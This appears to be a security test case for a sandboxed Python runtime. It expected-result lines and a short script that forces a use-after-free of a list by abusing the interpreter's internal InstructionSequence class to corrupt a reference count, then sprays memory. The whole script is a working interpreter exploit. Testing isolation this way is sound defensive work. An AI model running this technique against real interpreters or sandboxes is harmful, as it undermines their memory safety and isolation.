# attack: the reference count of a list becomes 1 while two names hold it: freed under one, used under the other
# fence: a use after free stays inside the guest: the same on every machine, and gone with the next call
# screened: S105
# step: deploy attack ["look"] => success [[1, 2, 3], [0, 1, 2]]
# step: send attack [] => *
# step: call attack ["look"] => success [[1, 2, 3], [0, 1, 2]]
victim = [1, 2, 3]
alias = [victim]
if not args:
    sequence = next(c for c in object.__subclasses__() if c.__name__ == "InstructionSequence")()
    block = bytes(20)
    at = id(block)
    block = None
    sequence.use_label(0)
    sequence.addop(1, 0, 0, 0, 0, 0)
    offset = (id(victim) - at) >> 2
    sequence.use_label(offset - 2**30 if offset >= 0 else offset)
    del victim
    spray = [[i, i] for i in range(50)]
finish([alias[0], list(range(3))])
